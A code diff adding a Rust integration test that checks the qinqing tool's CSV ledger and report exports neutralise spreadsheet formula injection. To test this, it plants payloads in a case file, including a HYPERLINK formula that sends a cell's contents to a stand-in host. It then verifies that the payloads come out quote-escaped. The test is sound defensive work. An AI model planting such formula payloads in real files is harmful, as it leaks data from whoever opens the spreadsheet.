@@ -316,3 +316,63 @@ fn a_repository_with_errors_is_refused_and_the_errors_are_named_where_they_are()
         assert!(!repo.join("output").exists(), "nothing written");
     }
 }
+
+/// A cell a spreadsheet would run as a formula is written as text in every CSV qinqing writes,
+/// read back by an independent reader (Python's `csv`).
+#[test]
+fn no_csv_cell_starts_a_formula() {
+    let tmp = tempfile::tempdir().unwrap();
+    let repo = demo_copy(tmp.path());
+    let file = repo.join("cases/2026/第21期恳谈会/HZ-2026-0101.yaml");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let text = text
+        .replacen(
+            "  name: ",
+            "  name: \"=HYPERLINK(\\\"http://x.example/?d=\\\"&A2,\\\"点击查看\\\")\"\n  x_old_name: ",
+            1,
+        )
+        .replacen("category: 交通出行", "category: \"@SUM(1+1)\"", 1)
+        .replacen("title: ", "title: \"-2+3 \"\ntitle_x: ", 1);
+    // Only the keys the format knows: put the old values back as they were.
+    let text = text.replace("  x_old_name: ", "  # ").replace("title_x: ", "# ");
+    std::fs::write(&file, text).unwrap();
+    let check = qinqing(&repo, &["check", "--as-of", AS_OF]);
+    assert!(check.code < 2, "{}{}", check.stdout, check.stderr);
+    let ledger = tmp.path().join("台账.csv");
+    let run = qinqing(&repo, &["export", "ledger", "--as-of", AS_OF, "--out", ledger.to_str().unwrap()]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let report = tmp.path().join("统计.csv");
+    let run = qinqing(
+        &repo,
+        &["report", "--period", "2026", "--as-of", AS_OF, "--format", "csv", "--out", report.to_str().unwrap()],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let script = r#"
+import csv, sys
+bad = []
+seen = 0
+for path in sys.argv[1:]:
+    with open(path, newline='', encoding='utf-8-sig') as f:
+        for row in csv.reader(f):
+            for cell in row:
+                seen += 1
+                if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
+                    bad.append(cell)
+print(seen, len(bad))
+for b in bad:
+    print(repr(b))
+"#;
+    let out = std::process::Command::new("python3")
+        .args(["-c", script, ledger.to_str().unwrap(), report.to_str().unwrap()])
+        .output()
+        .expect("python3 runs");
+    let said = String::from_utf8_lossy(&out.stdout);
+    let mut counts = said.split_whitespace();
+    let seen: usize = counts.next().unwrap().parse().unwrap();
+    assert!(seen > 500, "{said}");
+    assert_eq!(counts.next(), Some("0"), "cells a spreadsheet would run: {said}");
+    // Shown as text: the value after the quote is what was written.
+    let csv = std::fs::read_to_string(&ledger).unwrap();
+    assert!(csv.contains("'=HYPERLINK(") && csv.contains("'@SUM(1+1)"), "{csv}");
+    assert!(std::fs::read_to_string(&report).unwrap().contains("'@SUM(1+1)"));
+}
